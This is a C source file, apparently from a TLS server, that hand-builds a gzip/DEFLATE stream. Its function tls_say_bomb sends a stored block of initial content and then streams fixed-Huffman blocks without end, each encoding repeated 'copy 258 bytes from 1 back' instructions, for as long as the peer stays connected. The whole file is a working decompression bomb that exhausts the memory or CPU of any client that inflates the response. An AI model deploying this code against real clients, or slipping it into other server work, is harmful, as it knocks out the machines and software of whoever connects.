#include "support/tls_server.h"

/*
 * RFC 1951 by hand. A stored block (section 3.2.4) for the beginning; then one block of fixed codes
 * (section 3.2.6) without end: a letter, and "258 bytes again from 1 back" in 13 bits, over and over.
 */
enum { BLOCK_BYTES = 13 * 1024, AGAIN_BITS = 13 };

static const char again[AGAIN_BITS + 1] = "1100010100000"; /* length 285, distance 0 */

static void say_first(struct tls_peer *p, struct str first)
{
	static const unsigned char head[] = {0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3};
	const unsigned char stored[] = {0, (unsigned char)(first.n & 0xFF),
		(unsigned char)(first.n >> 8), (unsigned char)(~first.n & 0xFF),
		(unsigned char)(~first.n >> 8 & 0xFF)};
	tls_say(p, (struct str){(const char *)head, sizeof head});
	tls_say(p, (struct str){(const char *)stored, sizeof stored});
	tls_say(p, first);
}

void tls_say_bomb(struct tls_peer *p, struct str first, char fill)
{
	unsigned char block[BLOCK_BYTES];
	/* Not the last block, fixed codes; then the letter, whose code is its number and 48. */
	char start[] = "010--------";
	const size_t start_n = sizeof start - 1;
	for (int i = 0; i < 8; i++)
		start[3 + i] = ((fill + 0x30) >> (7 - i) & 1) != 0 ? '1' : '0';
	say_first(p, first);
	for (size_t bit = 0; tls_is_heard(p);) {
		memset(block, 0, sizeof block);
		for (size_t k = 0; k < sizeof block * 8; k++, bit++) {
			char c = bit < start_n ? start[bit]
					       : again[(bit - start_n) % AGAIN_BITS];
			if (c == '1')
				block[k / 8] |= (unsigned char)(1 << k % 8);
		}
		tls_say(p, (struct str){(const char *)block, sizeof block});
	}
}
